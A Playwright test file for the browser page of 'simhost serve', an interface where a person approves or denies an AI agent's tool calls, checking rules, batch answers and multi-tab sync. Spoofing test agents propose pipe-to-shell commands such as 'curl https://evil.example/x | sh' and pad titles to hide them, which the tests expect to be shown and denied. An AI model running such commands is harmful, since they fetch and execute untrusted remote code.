"""The page of ``simhost serve`` in a real browser: Debian's Chromium driven by
Playwright's Python package (its own browser download is not used).

Without Chromium these tests skip and say why; CI sets
``PERMCLIENT_REQUIRE_BROWSER=1``, which makes that a failure. Every test runs the
real ``simhost serve`` (the reference runtime, or an agent on the official ACP
TypeScript SDK) in a child process. The page's half-second guard is tested with
Playwright's clock, not with sleeps. Each test's server keeps its editor rules and
audit trail in the test's own folders (its ``XDG_CONFIG_HOME`` and
``XDG_STATE_HOME`` too), never the home folder's.

``SIMHOST_UPDATE_SCREENSHOT=1`` also writes the page's screenshot to docs/serve.png.
"""

from __future__ import annotations

import os
import re
import shutil
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Locator, Page, expect

from permclient.rules import EditorRule, save_rules
from tests.interop import NODE_DIR, require_node_packages
from tests.support import paths
from tests.support.serving import served_sync

CARD = re.compile(r"^Permission request")
DOCS = paths.DOCS

expect.set_options(timeout=10_000)


@pytest.fixture(autouse=True)
def _own_xdg_folders(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The served process reads and writes rules under this test's folders only."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg-config"))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "xdg-state"))


class Tab:
    """One page of the server, and every console error it logged (a CSP violation
    is one)."""

    def __init__(self, page: Page, url: str) -> None:
        self.page = page
        self.errors: list[str] = []
        page.on("console", self._console)
        page.on("pageerror", lambda error: self.errors.append(str(error)))
        page.goto(url)
        expect(page.get_by_role("status", name="Connection")).to_have_text("connected")

    def _console(self, message: ConsoleMessage) -> None:
        if message.type == "error":
            self.errors.append(message.text)

    def prompt(self, text: str) -> None:
        box = self.page.get_by_role("textbox", name="Prompt")
        expect(box).to_be_enabled()
        box.fill(text)
        box.press("Enter")

    def card(self) -> Locator:
        return self.page.get_by_role("dialog", name=CARD)

    def armed_card(self) -> Locator:
        card = self.card()
        expect(card).to_have_attribute("data-state", "armed")
        return card

    def notices(self) -> Locator:
        return self.page.locator(".notice")

    def transcript(self) -> Locator:
        return self.page.get_by_role("log", name="Transcript")

    def prompt_again(self, text: str) -> None:
        """Prompt once a card has left: the prompt box ignores Enter for half a second
        after a leaving card gave it the focus (the tab's clock runs past that)."""
        sent = self.transcript().locator(".entry-user")
        before = sent.count()
        self.page.clock.run_for(600)
        self.prompt(text)
        expect(sent).to_have_count(before + 1)


def deny(card: Locator, reason: str = "", name: str = "Deny") -> None:
    """Deny on ``card`` (armed): the deny option opens the reason box, and nothing is
    sent until "Send denial" (with ``reason`` typed, if any)."""
    card.get_by_role("button", name=name, exact=True).click()
    box = card.get_by_role("group", name="Deny with a reason")
    expect(box).to_be_visible()
    expect(card.get_by_role("group", name="Options")).to_be_hidden()
    expect(card).to_have_attribute("data-state", "armed")  # (nothing in flight yet)
    text = box.get_by_role("textbox", name="Reason for the denial (optional)")
    expect(text).to_be_focused()
    if reason:
        text.fill(reason)
    box.get_by_role("button", name="Send denial").click()


@pytest.fixture
def tabs() -> Iterator[list[Tab]]:
    """The tabs a test opened (each in a browser context of its own): each must end
    without a console error, and is closed."""
    opened: list[Tab] = []
    try:
        yield opened
        for tab in opened:
            assert tab.errors == [], tab.errors
    finally:
        for tab in opened:
            tab.page.context.close()


def open_tab(browser: Browser, tabs: list[Tab], url: str, *, clock: bool = False) -> Tab:
    """A new tab at ``url``, connected; with ``clock``, Playwright's clock is
    installed first (time flows until the test pauses it)."""
    page = browser.new_context().new_page()
    if clock:
        page.clock.install()
    tab = Tab(page, url)
    tabs.append(tab)
    return tab


def test_an_answer_in_one_tab_shows_resolved_in_the_other(
    browser: Browser, tabs: list[Tab], tmp_path: Path
) -> None:
    with served_sync(tmp_path) as (url, _):
        a = open_tab(browser, tabs, url)
        b = open_tab(browser, tabs, url)
        a.prompt("create notes.txt with hello")
        for tab in (a, b):
            expect(tab.card()).to_contain_text("notes.txt")
        b.armed_card().get_by_role("button", name="Allow", exact=True).click()
        for tab in (a, b):
            expect(tab.card()).to_have_count(0)
        b_name = b.page.locator("#view-name").inner_text().removeprefix("this view: ")
        assert b_name.startswith("browser-")
        expect(a.notices().last).to_contain_text(f"answered in another view: {b_name}")
        expect(a.page.get_by_role("log", name="Transcript")).to_contain_text("created notes.txt")
        assert (tmp_path / "notes.txt").read_text() == "hello\n"


def test_a_reload_shows_the_question_still_pending_and_it_can_be_answered(
    browser: Browser, tabs: list[Tab], tmp_path: Path
) -> None:
    with served_sync(tmp_path) as (url, _):
        tab = open_tab(browser, tabs, url)
        tab.prompt("run echo after-reload")
        expect(tab.card()).to_contain_text("echo after-reload")
        tab.page.reload()
        expect(tab.card()).to_have_count(1)
        expect(tab.card()).to_contain_text("echo after-reload")
        deny(tab.armed_card())
        expect(tab.card()).to_have_count(0)
        expect(tab.transcript()).to_contain_text("the editor denied it")
        expect(tab.transcript()).to_contain_text("end_turn")
        expect(tab.transcript()).not_to_contain_text("saying")  # (no reason typed: none sent)


def test_a_withdrawn_question_leaves_with_a_notice(
    browser: Browser, tabs: list[Tab], tmp_path: Path
) -> None:
    with served_sync(tmp_path) as (url, _):
        a = open_tab(browser, tabs, url)
        b = open_tab(browser, tabs, url)
        a.prompt("run echo never")
        expect(b.card()).to_have_count(1)
        a.page.get_by_role("button", name="Cancel turn").click()
        for tab in (a, b):
            expect(tab.card()).to_have_count(0)
            expect(tab.notices().last).to_contain_text("withdrawn (turn)")


def test_a_session_waiting_shows_the_amber_marker_while_another_is_shown(
    browser: Browser, tabs: list[Tab], tmp_path: Path
) -> None:
    with served_sync(tmp_path) as (url, _):
        tab = open_tab(browser, tabs, url)
        sessions = tab.page.get_by_role("navigation", name="Sessions")
        tab.prompt("run echo first")
        expect(tab.card()).to_have_count(1)
        tab.page.get_by_role("button", name="New session").click()
        expect(sessions.get_by_role("listitem")).to_have_count(2)
        expect(tab.card()).to_have_count(0)  # (the new session is shown: no question)
        marker = sessions.get_by_role("img", name="waiting for approval")
        expect(marker).to_have_count(1)
        sessions.get_by_role("listitem").first.click()  # back to the waiting session
        expect(tab.armed_card()).to_contain_text("echo first")
        expect(marker).to_have_count(1)
        shot = tmp_path / "serve.png"
        tab.page.screenshot(path=str(shot))
        assert shot.read_bytes().startswith(b"\x89PNG")
        if os.environ.get("SIMHOST_UPDATE_SCREENSHOT") == "1":
            shutil.copyfile(shot, DOCS / "serve.png")


def test_a_number_key_answers_an_armed_card_but_not_one_just_shown(
    browser: Browser, tabs: list[Tab], tmp_path: Path
) -> None:
    with served_sync(tmp_path) as (url, _):
        tab = open_tab(browser, tabs, url, clock=True)
        page = tab.page
        page.clock.pause_at(page.evaluate("Date.now()") + 1000)
        tab.prompt("run echo keys")
        card = tab.card()
        expect(card).to_have_attribute("data-state", "arming")
        page.keyboard.down("1")  # (no time passes: the card is in its first half second)
        card.get_by_role("button", name="Allow", exact=True).click()
        expect(card).to_have_attribute("data-state", "arming")
        page.clock.run_for(600)
        expect(card).to_have_attribute("data-state", "armed")
        page.keyboard.down("1")  # still held: a repeat, not an answer
        page.keyboard.up("1")
        page.keyboard.press("a")
        page.keyboard.press("1")  # right behind another key: typing, not an answer
        reached = []  # Tab reaches the options
        for _ in range(4):
            page.keyboard.press("Tab")
            reached.append(page.evaluate("document.activeElement.dataset.optionId"))
        assert "allow" in reached
        allow = card.get_by_role("button", name="Allow", exact=True)
        allow.focus()
        page.keyboard.press(" ")  # a click by a key obeys the keys' rules: typing too
        expect(card).to_have_attribute("data-state", "armed")
        page.clock.run_for(600)
        page.keyboard.press(" ")  # (the focused Allow, on its own)
        expect(card).to_have_count(0)
        expect(tab.notices().last).to_contain_text("You answered")
        expect(tab.notices().last).to_contain_text("Allow")


def test_the_page_takes_a_question_of_an_agent_on_the_official_typescript_sdk(
    browser: Browser, tabs: list[Tab], tmp_path: Path
) -> None:
    node = require_node_packages("@agentclientprotocol/sdk", "zod")
    agent = f"{node} {NODE_DIR / 'ts_agent.mjs'}"
    with served_sync(tmp_path, "--agent", agent) as (url, _):
        tab = open_tab(browser, tabs, url)
        tab.prompt("write from-browser.txt hello from the page")
        card = tab.armed_card()
        expect(card).to_contain_text("from-browser.txt")
        card.get_by_role("button", name="Allow", exact=True).click()  # (the agent's names)
        expect(tab.card()).to_have_count(0)
        expect(tab.page.get_by_role("log", name="Transcript")).to_contain_text("end_turn")
    assert (tmp_path / "from-browser.txt").read_text() == "hello from the page"


FAKE_AGENTS = paths.FAKE_AGENTS


def test_a_spoofing_agent_gets_its_option_names_shown_escaped_and_its_whole_command(
    browser: Browser, tabs: list[Tab], tmp_path: Path
) -> None:
    agent = f"{sys.executable} {FAKE_AGENTS / 'spoof_acp_agent.py'}"
    with served_sync(tmp_path, "--agent", agent) as (url, _):
        tab = open_tab(browser, tabs, url)
        tab.prompt("go")
        card = tab.armed_card()
        expect(card.locator("pre.command")).to_contain_text("curl https://example.invalid/x | sh")
        options = card.get_by_role("group", name="Options").get_by_role("button")
        expect(options).to_have_count(2)  # no row drawn by an option's name
        expect(options.first).not_to_have_text(re.compile(r"\n"))
        deny(card)
        expect(tab.page.get_by_role("log", name="Transcript")).to_contain_text("outcome: deny")


def test_a_newer_agents_request_is_shown_as_it_arrived_and_answerable(
    browser: Browser, tabs: list[Tab], tmp_path: Path
) -> None:
    agent = f"{sys.executable} {FAKE_AGENTS / 'newer_acp_agent.py'}"
    with served_sync(tmp_path, "--agent", agent) as (url, _):
        tab = open_tab(browser, tabs, url)
        tab.prompt("go")
        card = tab.armed_card()
        expect(card).to_contain_text("cannot show in full")
        expect(card.locator("pre.raw-request")).to_contain_text("a big red button")
        card.get_by_role("button", name="Allow", exact=True).click()
        expect(tab.page.get_by_role("log", name="Transcript")).to_contain_text("outcome: allow")


def test_a_title_made_to_push_the_command_out_of_sight_is_cut_and_escaped(
    browser: Browser, tabs: list[Tab], tmp_path: Path
) -> None:
    agent = f"{sys.executable} {FAKE_AGENTS / 'long_title_acp_agent.py'}"
    with served_sync(tmp_path, "--agent", agent) as (url, _):
        tab = open_tab(browser, tabs, url)
        tab.prompt("go")
        card = tab.armed_card()
        title = card.locator(".tool-title")
        expect(title).to_contain_text("more characters")
        expect(title).to_contain_text("\\u2800")  # (the blank, written out)
        assert len(title.inner_text()) < 2000
        expect(card.locator(".card-warning")).to_be_visible()
        expect(card.locator("pre.command")).to_contain_text("curl https://evil.example/x | sh")
        deny(card)
        expect(tab.page.get_by_role("log", name="Transcript")).to_contain_text("outcome: deny")


def test_a_request_of_many_large_diffs_draws_the_rest_when_opened(
    browser: Browser, tabs: list[Tab], tmp_path: Path
) -> None:
    agent = f"{sys.executable} {FAKE_AGENTS / 'big_diff_acp_agent.py'}"
    with served_sync(tmp_path, "--agent", agent) as (url, _):
        tab = open_tab(browser, tabs, url)
        tab.prompt("go")
        card = tab.armed_card()
        expect(card).to_contain_text("Changes (20 files)")
        folded = card.locator("details.folded")
        expect(folded).to_have_count(20 - card.locator("pre.diff").count())
        assert 0 < card.locator("pre.diff").count() < 20
        last = folded.last
        expect(last).to_contain_text("/work/file19.txt")
        last.locator("summary").click()
        expect(last.locator("pre.diff")).to_contain_text("line of file 19")
        deny(card)
        expect(tab.page.get_by_role("log", name="Transcript")).to_contain_text("outcome: deny")


def test_after_a_restart_the_page_shows_the_new_server_sessions_only(
    browser: Browser, tabs: list[Tab], tmp_path: Path
) -> None:
    """Same port, same token (as docs/serve.md says): the tab reconnects, the old
    session is gone from it, and the new one takes prompts."""
    import socket

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    token_file = tmp_path / "token"
    token_file.write_text("same-token-across-restarts-0123")
    args = ("--token-file", str(token_file), "--port", str(port))
    with served_sync(tmp_path, *args) as (url, _):
        tab = open_tab(browser, tabs, url)
        tab.prompt("run echo before")
        expect(tab.card()).to_have_count(1)
        first = tab.page.get_by_role("navigation", name="Sessions").get_by_role("listitem")
        old_id = first.first.get_attribute("data-session-id")
    expect(tab.notices().last).to_contain_text("the server stopped")
    with served_sync(tmp_path, *args) as (again, _):
        assert again == url
        listed = tab.page.get_by_role("navigation", name="Sessions").get_by_role("listitem")
        expect(listed).to_have_count(1)
        expect(listed.first).not_to_have_attribute("data-session-id", old_id or "")
        expect(tab.card()).to_have_count(0)
        tab.prompt("run echo after")
        expect(tab.armed_card()).to_contain_text("echo after")
        tab.errors = [e for e in tab.errors if "ERR_CONNECTION_REFUSED" not in e]


def test_a_new_session_opens_in_the_tab_that_asked_for_it_only(
    browser: Browser, tabs: list[Tab], tmp_path: Path
) -> None:
    with served_sync(tmp_path) as (url, _):
        a = open_tab(browser, tabs, url)
        b = open_tab(browser, tabs, url)
        b.page.get_by_role("button", name="New session").click()
        for tab, shown in ((a, 0), (b, 1)):
            listed = tab.page.get_by_role("navigation", name="Sessions").get_by_role("listitem")
            expect(listed).to_have_count(2)
            expect(listed.nth(shown).locator("[aria-current=true]")).to_have_count(1)


def test_a_digit_meant_for_a_card_another_tab_answered_does_not_land_in_the_prompt(
    browser: Browser, tabs: list[Tab], tmp_path: Path
) -> None:
    with served_sync(tmp_path) as (url, _):
        a = open_tab(browser, tabs, url, clock=True)
        b = open_tab(browser, tabs, url)
        a.page.clock.pause_at(a.page.evaluate("Date.now()") + 1000)
        a.prompt("run echo race")
        deny(b.armed_card())
        expect(a.card()).to_have_count(0)  # (answered in B: A's prompt box has the focus)
        prompt = a.page.get_by_role("textbox", name="Prompt")
        expect(prompt).to_be_focused()
        a.page.keyboard.press("1")  # meant for the card that just left
        expect(prompt).to_have_value("")
        a.page.clock.run_for(600)
        a.page.keyboard.press("1")
        expect(prompt).to_have_value("1")


# ----------------------------------------------------------------- editor rules

GIT_STATUS_RULE = "allow `git status …` in this workspace, until revoked"


def places(tmp_path: Path) -> tuple[Path, Path]:
    """A workspace, and a state folder outside it (where the rules file is kept)."""
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    return workspace, tmp_path / "state"


def test_a_rule_saved_from_a_card_answers_it_and_later_questions_until_revoked(
    browser: Browser, tabs: list[Tab], tmp_path: Path
) -> None:
    workspace, state = places(tmp_path)
    rules_file = state / "rules.toml"
    with served_sync(workspace, "--state-dir", str(state)) as (url, _):
        tab = open_tab(browser, tabs, url, clock=True)
        page = tab.page
        tab.prompt("run git status")
        card = tab.armed_card()

        # The card offers the editor's rules, each in full, below the agent's options;
        # the agent's own "always" options say whose scope theirs is.
        offers = card.get_by_role("group", name="Editor rules").get_by_role("button")
        expect(offers).to_have_count(2)
        expect(offers.nth(0)).to_have_text(f"Always {GIT_STATUS_RULE}")
        expect(offers.nth(1)).to_have_text(
            "Always deny `git status …` in this workspace, until revoked"
        )
        expect(offers.nth(0)).to_have_class(re.compile(r"\ballow\b"))
        expect(offers.nth(1)).to_have_class(re.compile(r"\bdeny\b"))
        options = card.get_by_role("group", name="Options")
        expect(options.locator("[data-option-id=allow-always]")).to_contain_text(
            "(the agent decides what this covers)"
        )
        expect(options.locator("[data-option-id=allow]")).not_to_contain_text("the agent decides")

        # A click asks first, with the whole rule; Back saves nothing.
        offers.nth(0).click()
        confirm = card.get_by_role("group", name="Save this rule?")
        expect(confirm).to_contain_text("Save this rule?")
        expect(confirm).to_contain_text(f"Always {GIT_STATUS_RULE}")
        expect(options).to_be_hidden()
        confirm.get_by_role("button", name="Back").click()
        expect(confirm).to_be_hidden()
        expect(options).to_be_visible()
        expect(tab.card()).to_have_count(1)
        assert not rules_file.exists()

        # Save: the rule answers the card; its receipt is in the transcript.
        offers.nth(0).click()
        confirm.get_by_role("button", name="Save").click()
        expect(tab.card()).to_have_count(0)
        expect(tab.notices().last).to_contain_text("The rule you saved answered")
        receipts = tab.transcript().locator(".entry-receipt")
        expect(receipts).to_have_count(1)
        expect(receipts.first).to_have_text(
            f"⚖ rule 1 allowed: local_shell: git status — {GIT_STATUS_RULE}"
        )
        expect(tab.transcript()).to_contain_text("Turn ended")
        assert "git" in rules_file.read_text() and "status" in rules_file.read_text()

        # A later git status: answered as it arrives (a receipt, no card); git push asks.
        tab.prompt_again("run git status")
        expect(receipts).to_have_count(2)
        expect(receipts.last).to_contain_text("⚖ rule 1 allowed: local_shell: git status")
        expect(tab.transcript().locator(".entry-turn")).to_have_count(2)
        expect(tab.card()).to_have_count(0)
        tab.prompt_again("run git push")
        expect(tab.armed_card()).to_contain_text("git push")
        deny(tab.card())
        expect(tab.card()).to_have_count(0)
        expect(receipts).to_have_count(2)
        expect(tab.transcript().locator(".entry-turn")).to_have_count(3)  # (before a prompt)

        # The Rules view lists it, with its hits and its file; Revoke takes it out.
        page.get_by_role("button", name="Rules", exact=True).click()
        view = page.get_by_role("region", name="Editor rules")
        expect(view).to_be_visible()
        expect(tab.transcript()).to_be_hidden()
        listed = view.get_by_role("listitem")
        expect(listed).to_have_count(1)
        expect(listed.first).to_contain_text(GIT_STATUS_RULE)
        expect(listed.first).to_contain_text("hits: 2")
        expect(listed.first).to_contain_text(f"kept in: {rules_file}")
        view.get_by_role("button", name="Revoke rule 1").click()
        expect(listed).to_have_count(0)
        expect(view).to_contain_text("No editor rules yet")
        assert "status" not in rules_file.read_text()
        view.get_by_role("button", name="Back to the session").click()
        expect(view).to_be_hidden()

        # Revoked: git status asks again.
        tab.prompt_again("run git status")
        expect(tab.armed_card()).to_contain_text("git status")
        expect(receipts).to_have_count(2)


def test_the_rules_view_follows_the_rules_other_tabs_save_and_revoke(
    browser: Browser, tabs: list[Tab], tmp_path: Path
) -> None:
    workspace, state = places(tmp_path)
    with served_sync(workspace, "--state-dir", str(state)) as (url, _):
        a = open_tab(browser, tabs, url, clock=True)
        b = open_tab(browser, tabs, url)
        b.page.get_by_role("button", name="Rules", exact=True).click()
        view = b.page.get_by_role("region", name="Editor rules")
        expect(view).to_contain_text("No editor rules yet")
        a.prompt("run echo from-a")
        expect(b.card()).to_be_hidden()  # (B shows its rules: the card waits out of sight)
        card = a.armed_card()
        card.get_by_role("group", name="Editor rules").get_by_role("button").first.click()
        card.get_by_role("group", name="Save this rule?").get_by_role("button", name="Save").click()
        listed = view.get_by_role("listitem")
        expect(listed).to_have_count(1)
        expect(listed.first).to_contain_text("allow `echo from-a …` in this workspace")
        expect(listed.first).to_contain_text("hits: 1")
        # The rule answers the next one as it arrives: B's row counts it from the receipt
        # (no list is sent per answer), in place (the focus stays on its button).
        revoke = view.get_by_role("button", name="Revoke rule 1")
        revoke.focus()
        a.prompt_again("run echo from-a")
        expect(listed.first).to_contain_text("hits: 2")
        expect(revoke).to_be_focused()
        view.get_by_role("button", name="Back to the session").focus()  # (Revoke goes next)
        a.page.get_by_role("button", name="Rules", exact=True).click()
        a.page.get_by_role("region", name="Editor rules").get_by_role(
            "button", name="Revoke rule 1"
        ).click()
        expect(listed).to_have_count(0)
        expect(view).to_contain_text("No editor rules yet")
        b.page.keyboard.press("Escape")  # (leaves the view)
        expect(view).to_be_hidden()
        expect(b.card()).to_have_count(0)
        receipts = b.transcript().locator(".entry-receipt")
        expect(receipts).to_have_count(2)
        expect(receipts.last).to_contain_text("⚖ rule 1 allowed")


def test_a_denial_with_a_typed_reason_reaches_the_agent(
    browser: Browser, tabs: list[Tab], tmp_path: Path
) -> None:
    workspace, state = places(tmp_path)
    with served_sync(workspace, "--state-dir", str(state)) as (url, _):
        tab = open_tab(browser, tabs, url, clock=True)
        page = tab.page
        tab.prompt("run echo first")
        card = tab.armed_card()
        page.clock.pause_at(page.evaluate("Date.now()") + 1000)
        box = card.get_by_role("group", name="Deny with a reason")
        reason = box.get_by_role("textbox", name="Reason for the denial (optional)")

        # Esc in the box goes back to the options: nothing was answered.
        card.get_by_role("button", name="Deny", exact=True).click()
        expect(reason).to_be_focused()
        reason.fill("not sent")
        page.keyboard.press("Escape")
        expect(box).to_be_hidden()
        expect(card.get_by_role("group", name="Options")).to_be_visible()
        expect(tab.card()).to_have_count(1)
        expect(tab.notices()).to_have_count(0)

        # The deny option's number key opens the box too (the digit is not typed in it);
        # Enter sends the denial with what was typed.
        page.clock.run_for(600)
        deny_key = card.locator("[data-option-id=deny] .num").inner_text()
        page.keyboard.press(deny_key)
        expect(box).to_be_visible()
        expect(reason).to_be_focused()
        expect(reason).to_have_value("")
        expect(reason).to_have_attribute("maxlength", "1000")
        reason.press_sequentially("not in this repo, please")
        page.keyboard.press("Enter")
        expect(tab.card()).to_have_count(0)
        expect(tab.notices().last).to_contain_text(
            "You answered “local_shell: echo first”: Deny, saying: not in this repo, please"
        )
        expect(tab.transcript()).to_contain_text(
            "the editor denied it, saying: not in this repo, please"
        )


def test_a_reason_being_typed_when_another_tab_answers_does_not_land_in_the_prompt(
    browser: Browser, tabs: list[Tab], tmp_path: Path
) -> None:
    workspace, state = places(tmp_path)
    with served_sync(workspace, "--state-dir", str(state)) as (url, _):
        a = open_tab(browser, tabs, url, clock=True)
        b = open_tab(browser, tabs, url)
        a.prompt("run echo raced")
        card = a.armed_card()
        card.get_by_role("button", name="Deny", exact=True).click()
        reason = card.get_by_role("textbox", name="Reason for the denial (optional)")
        reason.press_sequentially("half a")
        b.armed_card().get_by_role("button", name="Allow", exact=True).click()
        expect(a.card()).to_have_count(0)
        expect(a.notices().last).to_contain_text("answered in another view")
        a.page.clock.run_for(600)
        a.page.keyboard.type(" reason")
        a.page.keyboard.press("Enter")
        prompt = a.page.get_by_role("textbox", name="Prompt")
        expect(prompt).to_be_visible()
        expect(prompt).not_to_be_focused()
        expect(prompt).to_have_value("")
        expect(a.transcript().locator(".entry-user")).to_have_count(1)  # (the prompt only)
        expect(a.transcript()).not_to_contain_text("saying")


def test_a_prompt_the_server_refuses_says_why_below_it_in_the_tab_that_sent_it(
    browser: Browser, tabs: list[Tab], tmp_path: Path
) -> None:
    workspace, state = places(tmp_path)
    sleep = EditorRule(
        effect="allow",
        scope="workspace",
        lifetime="revoked",
        workspace=str(workspace.resolve()),
        command=("sleep",),
    )
    save_rules(state / "rules.toml", [sleep])  # (the turn runs, and asks nothing)
    with served_sync(workspace, "--state-dir", str(state)) as (url, _):
        a = open_tab(browser, tabs, url)
        b = open_tab(browser, tabs, url)
        a.prompt("run sleep 30")
        expect(b.page.locator("#turn-state")).to_have_text("turn running")
        b.prompt("run echo meanwhile")
        entries = b.transcript().locator(".entry")
        expect(entries.last).to_have_text(
            "Not sent to the agent: the session already has a turn running: wait, or cancel it"
        )
        expect(entries.last).to_have_class(re.compile(r"\bentry-notice\b"))
        prompted = entries.nth(-2)  # (right below the prompt)
        expect(prompted).to_have_class(re.compile(r"\bentry-user\b"))
        expect(prompted.locator(".body")).to_have_text("run echo meanwhile")
        expect(b.notices()).to_have_count(0)  # (said by the prompt it was about: once)
        expect(a.transcript()).not_to_contain_text("Not sent")
        a.page.get_by_role("button", name="Cancel turn").click()
        for tab in (a, b):
            expect(tab.transcript()).to_contain_text("Turn ended: cancelled")


READS_AGENT = f"{sys.executable} {FAKE_AGENTS / 'reads_acp_agent.py'}"


def test_a_batch_allow_of_reads_answers_exactly_the_questions_it_listed(
    browser: Browser, tabs: list[Tab], tmp_path: Path
) -> None:
    workspace, state = places(tmp_path)
    with served_sync(workspace, "--state-dir", str(state), "--agent", READS_AGENT) as (url, _):
        a = open_tab(browser, tabs, url)
        b = open_tab(browser, tabs, url)
        a.prompt("go")
        card = a.armed_card()
        expect(card.locator(".card-position")).to_have_text("1 of 4")
        expect(card).to_contain_text("read src/a.py")

        # Preview: the three reads (not make), as the server lists them.
        batch = a.page.get_by_role("group", name="Answer many")
        what = batch.get_by_role("textbox", name="Which questions: a tool kind or a path glob")
        expect(what).to_have_attribute("placeholder", "reads or src/**")
        batch.get_by_role("combobox", name="Batch answer").select_option(label="Allow all")
        what.fill("reads")
        batch.get_by_role("button", name="Preview").click()
        panel = a.page.get_by_role("region", name="Batch answer")
        listed = panel.get_by_role("listitem")
        expect(listed).to_have_count(3)
        for item, title in zip(
            listed.all(), ("read src/a.py", "read src/b.py", "read docs/c.md"), strict=True
        ):
            expect(item).to_have_text(f"{title} → Allow")
        answer_all = panel.get_by_role("button", name="Answer these 3")

        # Meanwhile B denies the first of them, and a fourth read comes: not listed.
        deny(b.armed_card())
        expect(card).to_contain_text("read src/b.py")  # (A's card: the next one)
        expect(card.locator(".card-position")).to_have_text("1 of 4")  # (src/late.py came)
        expect(listed.first).to_contain_text("no longer pending")

        answer_all.click()
        expect(panel).to_contain_text("2 answered")
        expect(panel).to_contain_text("1 of the 3 listed was no longer pending")
        expect(card.locator(".card-position")).to_have_text("1 of 2")
        expect(card).to_contain_text("run make")
        expect(a.notices().last).to_contain_text("was answered by batch allow-all reads")
        panel.get_by_role("button", name="Close").click()
        expect(panel).to_be_hidden()

        # What the batch did not list is still asked: make, and the late read.
        deny(a.armed_card())
        late = a.armed_card()
        expect(late).to_contain_text("read src/late.py")
        late.get_by_role("button", name="Allow", exact=True).click()
        expect(a.transcript()).to_contain_text(
            "call-1: deny call-2: allow call-3: allow call-4: deny call-5: allow"
        )


def test_a_batch_that_matches_nothing_or_is_not_a_glob_says_so(
    browser: Browser, tabs: list[Tab], tmp_path: Path
) -> None:
    workspace, state = places(tmp_path)
    with served_sync(workspace, "--state-dir", str(state)) as (url, _):
        tab = open_tab(browser, tabs, url)
        tab.prompt("run echo waiting")
        expect(tab.armed_card()).to_contain_text("echo waiting")
        batch = tab.page.get_by_role("group", name="Answer many")
        panel = tab.page.get_by_role("region", name="Batch answer")
        what = batch.get_by_role("textbox", name="Which questions: a tool kind or a path glob")
        what.fill("edits")
        what.press("Enter")
        expect(panel).to_contain_text("no pending question of this session matches")
        expect(panel.get_by_role("button", name=re.compile("Answer these"))).to_have_count(0)
        panel.get_by_role("button", name="Back").click()
        expect(panel).to_be_hidden()
        what.fill("src/[")
        batch.get_by_role("button", name="Preview").click()
        expect(panel).to_contain_text("Batch: not a kind or a path glob")
        expect(tab.card()).to_have_count(1)  # (nothing was answered)
